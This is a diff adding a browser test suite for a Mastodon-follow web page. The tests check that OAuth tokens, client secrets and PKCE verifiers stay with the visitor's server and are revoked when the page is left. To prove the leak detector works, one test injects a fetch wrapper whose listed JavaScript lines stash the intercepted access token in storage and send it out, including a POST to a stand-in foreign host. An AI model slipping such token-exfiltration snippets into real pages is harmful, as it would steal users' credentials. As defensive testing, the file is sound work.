@@ -1,0 +1,207 @@
+"""What the visitor allows goes to their own server, to nobody else, and is given back.
+
+Read off the wire and out of the browser, with everything that a page can keep something in; and
+the same walk over pages that do leak, so that it is known to see it.
+"""
+
+import json
+from collections.abc import Iterator
+from urllib.parse import urlsplit
+
+import pytest
+from playwright.sync_api import Browser, Page
+
+from care100.sandbox import Fault, Sandbox
+from tests.browser.conftest import PATIENCE
+from tests.browser.follow.conftest import Publishes
+from tests.browser.follow.visitor import FOLLOW, TITLE, Visitor, members, site_of
+from tests.browser.follow.wire import Wire
+
+PLACES = """async () => ({
+  localStorage: JSON.stringify({ ...localStorage }),
+  sessionStorage: JSON.stringify({ ...sessionStorage }),
+  "document.cookie": document.cookie,
+  "the window's name": window.name,
+  "the address": location.href,
+  "the history's state": JSON.stringify(history.state),
+  "the document": document.documentElement.outerHTML,
+  "a field": JSON.stringify([...document.querySelectorAll("input")].map((one) => one.value)),
+  "a database": JSON.stringify((await indexedDB.databases()).map((one) => one.name)),
+  "a cache": JSON.stringify(await caches.keys()),
+})"""
+
+
+@pytest.fixture
+def wire() -> Iterator[Wire]:
+    with Wire() as running:
+        yield running
+
+
+@pytest.fixture
+def page(browser: Browser, wire: Wire) -> Iterator[Page]:
+    """A tab whose every byte goes over the wire."""
+    context = browser.new_context(
+        reduced_motion="reduce",
+        locale="en-GB",
+        proxy={"server": wire.settings["server"], "bypass": wire.settings["bypass"]},
+    )
+    context.set_default_timeout(PATIENCE)
+    yield context.new_page()
+    context.close()
+
+
+def secrets(wire: Wire, server: str) -> dict[str, str]:
+    """What only the visitor's server and this page may know, as it went over the wire."""
+    found = {}
+    for one in wire.to(server):
+        if one.path == "/api/v1/apps":
+            found["client secret"] = json.loads(one.received)["client_secret"]
+        if one.path == "/oauth/token":
+            found["token"] = json.loads(one.received)["access_token"]
+            fields = dict(
+                pair.split("=", 1) for pair in one.sent.decode().split("\n")[-1].split("&")
+            )
+            found["verifier"] = fields["code_verifier"]
+    assert set(found) == {"client secret", "token", "verifier"}
+    return found
+
+
+def history(page: Page) -> str:
+    """Every address that this tab can go back to."""
+    session = page.context.new_cdp_session(page)
+    entries = session.send("Page.getNavigationHistory")["entries"]
+    session.detach()
+    return " ".join(value for one in entries for value in one.values() if isinstance(value, str))
+
+
+def leaks(visitor: Visitor, wire: Wire) -> set[str]:
+    """What is where it should not be; empty when nothing is."""
+    server, page = visitor.server.domain, visitor.page
+    kept: dict[str, str] = {
+        **page.evaluate(PLACES),
+        "the cookies": json.dumps(page.context.cookies()),
+        "the history": history(page),
+    }
+    found = {"code in the history"} if "code=" in kept["the history"] else set()
+    for name, secret in secrets(wire, server).items():
+        found |= {f"{name} in {place}" for place, text in kept.items() if secret in text}
+        found |= {
+            f"{name} to {one.server}{one.path}"
+            for one in wire.past(server)
+            if secret.encode() in one.sent
+        }
+        found |= {
+            f"{name} in an address at {one.path}"
+            for one in wire.to(server)
+            if secret in one.sent.decode().partition("\n")[0]
+        }
+    return found
+
+
+def walk(visitor: Visitor) -> None:
+    """Follow everybody and file them."""
+    visitor.opens()
+    visitor.filing.check()
+    visitor.asks()
+    visitor.allows()
+    visitor.sees("Done on")
+
+
+def test_a_token_goes_to_the_visitors_server_alone(
+    sandbox: Sandbox, publishes: Publishes, wire: Wire
+) -> None:
+    visitor = publishes(12)
+    walk(visitor)
+    assert not leaks(visitor, wire)
+    visitor.is_free()
+    token = secrets(wire, visitor.server.domain)["token"]
+    assert token not in sandbox.mastodon.state.tokens
+    servers = {one.server for one in wire.exchanges}
+    assert servers == {visitor.server.domain, urlsplit(visitor.address).netloc}
+    # And still not, when the visitor goes on to read.
+    visitor.opens()
+    assert not leaks(visitor, wire)
+    assert len(sandbox.mastodon.state.members("follower", TITLE)) == 12
+
+
+def test_a_token_follows_no_redirect(sandbox: Sandbox, publishes: Publishes, wire: Wire) -> None:
+    """A server that sends the page elsewhere, in the middle of everything."""
+    elsewhere = f"{sandbox.x.url}/taken"
+    for path in (FOLLOW, "/relationships$", "/lookup$", "/oauth/revoke$"):
+        sandbox.mastodon.faults.add(Fault("redirect", path=path, skip=1, location=elsewhere))
+    visitor = publishes(6)
+    visitor.page.clock.install()
+    visitor.follows()
+    visitor.sees("Done on", after=lambda: visitor.page.clock.fast_forward(5_000))
+    assert not leaks(visitor, wire)
+    assert urlsplit(sandbox.x.url).netloc not in {one.server for one in wire.exchanges}
+
+
+@pytest.mark.parametrize("leaving", ["for another page", "to reload it", "by closing the tab"])
+def test_a_token_is_given_back_when_the_page_is_left(
+    publishes: Publishes, wire: Wire, leaving: str
+) -> None:
+    visitor = publishes(12)
+    visitor.hold(after=4)
+    visitor.follows()
+    visitor.is_held(after=4)
+    assert visitor.permissions == 1
+    if leaving == "for another page":
+        visitor.page.goto("about:blank")
+    elif leaving == "to reload it":
+        visitor.page.reload()
+    else:
+        context = visitor.page.context
+        visitor.page.close(run_before_unload=True)
+        visitor.page = context.new_page()
+    visitor.is_free()
+    token = secrets(wire, visitor.server.domain)["token"]
+    assert not [one for one in wire.past(visitor.server.domain) if token.encode() in one.sent]
+
+
+LEAKS = {
+    "in localStorage": "localStorage.setItem('kept', token)",
+    "in sessionStorage": "sessionStorage.setItem('kept', token)",
+    "in document.cookie": "document.cookie = `kept=${token}`",
+    "in the cookies": "document.cookie = `too=${token}; path=/static/`",
+    "in the window's name": "window.name = token",
+    "in the document": "document.body.append(token)",
+    "in a field": "document.querySelector('input').value = token",
+    "in a database": "indexedDB.open(token)",
+    "in a cache": "await caches.open(token)",
+    "in the history": "location.hash = token",
+    "in the history's state": "history.replaceState({ token }, '')",
+    "to SITE/body": "fetch('/body', { method: 'POST', body: token })",
+    "to SITE/query": "fetch(`/query?${token}`)",
+    "to SITE/beacon": "navigator.sendBeacon('/beacon', token)",
+    "to SITE/picture": "new Image().src = `/picture?${token}`",
+    "to X/taken": "fetch('http://X/taken', { mode: 'no-cors', method: 'POST', body: token })",
+    "in an address at /path": "fetch(new URL(`/path?${token}`, address), { mode: 'no-cors' })",
+}
+TAP = """
+const real = fetch;
+globalThis.fetch = async (address, options) => {
+  const answer = await real(address, options);
+  if (!String(address).endsWith("/oauth/token")) return answer;
+  const { access_token: token } = await answer.clone().json();
+  LEAKS
+  return answer;
+};
+"""
+
+
+def test_the_walk_sees_every_leak(sandbox: Sandbox, publishes: Publishes, wire: Wire) -> None:
+    x = urlsplit(sandbox.x.url).netloc
+    files = site_of(members(sandbox.mastodon, [1]))
+    tap = TAP.replace("LEAKS", ";\n  ".join(LEAKS.values())).replace("//X/", f"//{x}/")
+    files["static/search.js"] = tap.encode()
+    visitor = publishes(files)
+    visitor.opens()
+    visitor.asks()
+    visitor.allows()
+    visitor.sees("Done on")
+    site = urlsplit(visitor.address).netloc
+    left = {f"token {place}".replace("SITE", site).replace("X/", f"{x}/") for place in LEAKS}
+    sent = {one for one in left if " to " in one}
+    visitor.until(lambda: sent <= leaks(visitor, wire))
+    assert not left - leaks(visitor, wire)
